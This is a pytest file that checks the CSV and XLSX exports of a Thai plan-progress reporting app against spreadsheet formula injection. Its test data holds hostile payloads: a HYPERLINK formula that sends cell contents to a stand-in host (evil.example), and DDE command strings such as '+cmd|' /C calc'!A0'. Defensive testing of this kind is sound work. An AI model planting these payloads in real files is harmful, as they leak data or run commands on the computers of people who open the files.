"""Formula injection: text that begins like a spreadsheet formula is never one in the exports.

The attack (issue 15, finding 4): a report detail `=HYPERLINK("http://…/?leak="&A1,"คลิก")`
was a live formula in the year's XLSX; the CSV wrote `=…` and `+cmd|' /C calc'!A0` as they
were; a plan title beginning with `=` too. Every text cell is checked (details, names, plan
and measure titles, action texts), in the CSV and the XLSX, from the command line and from
the download links: the workbook holds no formula element at all, and each such text cell
carries the quote-prefix mark that keeps it text when a clerk edits it.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pytest
from sqlmodel import select

from models.plan import Action, Measure, Plan, get_plan, plan_tree
from models.progress import Report, ReportSource, record_report
from models.staff import Staff
from reports import periods
from reports.csv_export import HEADER
from tests.support import people
from tests.support.line_chat import texts

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
#: what people typed or an older version stored, each beginning like a formula
ATTACKS = [
    LEAK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "  =1+1",
]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def attacked(line, runner, services, clock, seed_plan) -> None:
    """A report typed in LINE, then the rest as an older version could have stored them."""
    people.link(runner, line, "Uformula", "=นามแฝง", "staff", "1,2")
    assert "บันทึกรายงานแล้ว" in texts(line.send("Uformula", f"รายงาน 1.1 40% {LEAK}"))
    with services.db.session() as session:
        plan = get_plan(session, 2565)
        tree = plan_tree(session, plan)
        actions = [a for _, acts in tree for a in acts][1:]
        reporter = session.exec(select(Staff)).one()
        for action, detail in zip(actions, ATTACKS[1:], strict=False):
            record_report(
                session,
                action_id=action.id,
                month=clock.now().date().replace(day=1),
                percent=30,
                detail="x",
                staff=reporter,
                now=clock.now(),
                source=ReportSource.LINE,
            )
            report = session.exec(select(Report).where(Report.action_id == action.id)).one()
            report.detail = detail  # as stored, leading spaces and all
            session.add(report)
        stored = session.get(Plan, plan.id)
        stored.title, stored.agency = "=1+1 แผน", "+เทศบาล"
        measure = session.get(Measure, tree[0][0].id)
        measure.title, measure.period = "-มาตรการ", "@ตลอดปี"
        first = session.get(Action, tree[0][1][0].id)
        first.text = "=ACTION()"
        session.add_all([stored, measure, first])


def test_the_csv_quotes_out_every_formula_and_keeps_its_columns(
    runner, attacked, tmp_path: Path
) -> None:
    out = tmp_path / "report.csv"
    result = runner.invoke(
        args=["export", "--fiscal-year", "2565", "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    raw = out.read_bytes().decode("utf-8-sig")
    assert raw.splitlines()[0] == ",".join(HEADER)  # the header DESIGN.md fixes, byte for byte
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for column, value in row.items():
            assert not value.lstrip(" ").startswith(TRIGGERS), f"{column}: {value!r}"
        assert row["percent"].isdigit() and row["measure_no"].isdigit()  # numbers stay numbers
        assert row["reporter"] == "'=นามแฝง"
    details = sorted(row["detail"] for row in rows)
    assert "'" + LEAK in details and "'  =1+1" in details and "'\t=1+1" in details


@pytest.mark.parametrize("source", ["cli", "link"])
def test_the_workbook_holds_no_formula_only_text(
    runner, client, services, clock, attacked, tmp_path: Path, source: str
) -> None:
    content = _workbook(runner, client, services, clock, tmp_path, source)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(TRIGGERS):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    seen.append(cell.value)
    shown = "\n".join(seen)
    assert LEAK in shown and "-2+3+cmd|' /C calc'!A0" in shown and "-มาตรการ" in shown
    assert "+เทศบาล" in shown  # the title line: the agency begins it
    percents = [
        c.value for s in book.worksheets[1:] for r in s.iter_rows(min_row=8) for c in r[1:13]
    ]
    assert 0.3 in percents and 0.4 in percents  # percent cells are numbers still


def _workbook(runner, client, services, clock, tmp_path: Path, source: str) -> bytes:
    if source == "link":
        url = services.links.signed_url(periods.year(2565), "xlsx", clock.now())
        fetched = client.get(urlsplit(url)._replace(scheme="", netloc="").geturl())
        assert fetched.status_code == 200
        return fetched.data
    out = tmp_path / "report.xlsx"
    result = runner.invoke(
        args=["export", "--fiscal-year", "2565", "--format", "xlsx", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    return out.read_bytes()
